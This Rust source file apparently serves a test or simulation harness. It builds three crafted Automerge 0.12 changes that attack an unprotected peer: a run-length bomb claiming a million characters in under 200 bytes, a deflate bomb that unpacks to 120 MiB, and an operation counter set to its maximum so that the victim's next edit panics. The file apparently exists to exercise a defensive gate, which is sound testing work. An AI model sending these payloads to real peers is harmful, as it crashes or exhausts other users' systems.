//! Three small changes that hurt a bare Automerge 0.12: for the gate, the simulator and the stories.
//!
//! Each is well formed otherwise, with the author's actor and right numbers, so that only the gate stands before it.

use crate::raw_change::{Op, RawChange, column, sealed, signed, unsigned};
use wire::hash::sha256;

/// The header that the bomb is to have.
#[derive(Debug, Clone)]
pub struct Header {
    /// The author's actor in the document.
    pub actor: [u8; 16],
    /// The number of this change among the author's.
    pub seq: u64,
    /// One more than the highest operation counter so far.
    pub start_op: u64,
    /// Hashes of the newest changes, ascending.
    pub deps: Vec<[u8; 32]>,
}

impl Header {
    /// The first change of a new document.
    pub const fn first(actor: [u8; 16]) -> Self {
        Self { actor, seq: 1, start_op: 1, deps: vec![] }
    }

    fn change(&self, ops: &[Op]) -> RawChange {
        let deps = self.deps.clone();
        RawChange { deps, ..RawChange::new(self.actor, self.seq, self.start_op, ops) }
    }
}

/// How many characters the run-length bomb claims.
pub const RUN: u64 = 1_000_000;
/// How many bytes the deflate bomb unpacks to. Packed it fits into one entry.
pub const INFLATED: usize = 120 << 20;

/// Under 200 bytes: a text, and a run of a million characters in it.
pub fn run_length(header: &Header) -> Vec<u8> {
    let run = RUN.cast_signed();
    let change = header.change(&[Op::make(None, "bomb", 4)]);
    // After the first character each one follows the one before: one run of differences.
    let counters = [&[0, 1, 0x7e, 0][..], &signed((header.start_op + 1).cast_signed())].concat();
    change
        .with_column(column::OBJECT_ACTOR, [&[0, 1][..], &signed(run), &[0]].concat())
        .with_column(
            column::OBJECT_COUNTER,
            [&[0, 1][..], &signed(run), &unsigned(header.start_op)].concat(),
        )
        .with_column(column::KEY_ACTOR, [&[0, 2][..], &signed(run - 1), &[0]].concat())
        .with_column(column::KEY_COUNTER, [counters, signed(run - 2), vec![1]].concat())
        .with_column(column::KEY_TEXT, [&[0x7f, 4][..], b"bomb", &[0], &unsigned(RUN)].concat())
        .with_column(column::INSERT, [&[1][..], &unsigned(RUN)].concat())
        .with_column(column::ACTION, [&[0x7f, 4][..], &signed(run), &[1]].concat())
        // Null characters, as a list would hold them: no byte of value for any.
        .with_column(column::VALUE_HEAD, [signed(run + 1), vec![0]].concat())
        .with_column(column::VALUE, vec![])
        .with_column(column::PRED_COUNT, [signed(run + 1), vec![0]].concat())
        .build()
}

/// A compressed chunk of 0.8 MB: one string of 120 MiB.
pub fn deflate(header: &Header) -> Vec<u8> {
    let put = Op { value: (6, vec![b'a']), ..Op::put(None, "bomb") };
    let change = header.change(&[put]).with_column(
        column::VALUE_HEAD,
        [vec![0x7f], unsigned((INFLATED as u64) << 4 | 6)].concat(),
    );
    // The column's length stands in the head as that of its data: the data itself is only ever compressed.
    let (before, _, after) = change.around(column::VALUE);
    let before = with_length(&before, &change, INFLATED);
    let len = before.len() + INFLATED + after.len();
    let plain_head = [&[1][..], &unsigned(len as u64)].concat();
    let piece = vec![b'a'; 1 << 20];
    let mut parts: Vec<&[u8]> = vec![&plain_head, &before];
    parts.extend(std::iter::repeat_n(piece.as_slice(), INFLATED / piece.len()));
    parts.push(&after);
    let hash = sha256(&parts);
    let packed = packed(&before, INFLATED, &after);
    let mut rest = vec![2];
    rest.extend(unsigned(packed.len() as u64));
    rest.extend(packed);
    let mut raw = sealed(&rest);
    raw[4..8].copy_from_slice(&hash[..4]);
    raw
}

/// A change of under 100 bytes with the last operation counter there is: the victim's own next edit panics.
pub fn start_op(header: &Header) -> Vec<u8> {
    let change = header.change(&[Op::put(None, "bomb")]);
    RawChange { start_op: unsigned(u64::from(u32::MAX)), ..change }.build()
}

/// The data before the value column, with another length for that column.
fn with_length(before: &[u8], change: &RawChange, len: usize) -> Vec<u8> {
    let old = change
        .columns
        .iter()
        .find(|(spec, _)| *spec == column::VALUE)
        .map_or(0, |(_, data)| data.len());
    let heads = |len: usize| {
        let mut heads = vec![];
        for (spec, data) in &change.columns {
            heads.extend(unsigned(*spec));
            heads.extend(unsigned(if *spec == column::VALUE { len } else { data.len() } as u64));
        }
        heads
    };
    let (old, new) = (heads(old), heads(len));
    let at = before.windows(old.len()).rposition(|window| window == old).expect("the column heads");
    [&before[..at], &new, &before[at + old.len()..]].concat()
}

/// Deflated: bytes as they are, a run of `a`, bytes as they are.
fn packed(before: &[u8], run: usize, after: &[u8]) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.stored(before, false);
    bits.put(0b010, 3);
    bits.code(0x30 + u32::from(b'a'), 8);
    // The code of "258 bytes from one byte back": 8 bits of length, 5 of distance.
    let (whole, rest) = ((run - 1) / 258, (run - 1) % 258);
    for _ in 0..whole {
        bits.code(0b1100_0101, 8);
        bits.code(0, 5);
    }
    for _ in 0..rest {
        bits.code(0x30 + u32::from(b'a'), 8);
    }
    bits.code(0, 7);
    bits.stored(after, true);
    bits.out
}

#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    used: u32,
}

impl Bits {
    /// The lowest bit first.
    fn put(&mut self, value: u32, count: u32) {
        for bit in 0..count {
            if self.used == 0 {
                self.out.push(0);
            }
            let last = self.out.len() - 1;
            self.out[last] |= u8::from(value >> bit & 1 == 1) << self.used;
            self.used = (self.used + 1) % 8;
        }
    }

    /// A Huffman code: the highest bit first.
    fn code(&mut self, code: u32, count: u32) {
        for bit in (0..count).rev() {
            self.put(code >> bit & 1, 1);
        }
    }

    fn stored(&mut self, bytes: &[u8], last: bool) {
        self.put(u32::from(last), 3);
        self.used = 0;
        let len = u16::try_from(bytes.len()).expect("a short head");
        self.out.extend(len.to_le_bytes());
        self.out.extend((!len).to_le_bytes());
        self.out.extend(bytes);
    }
}
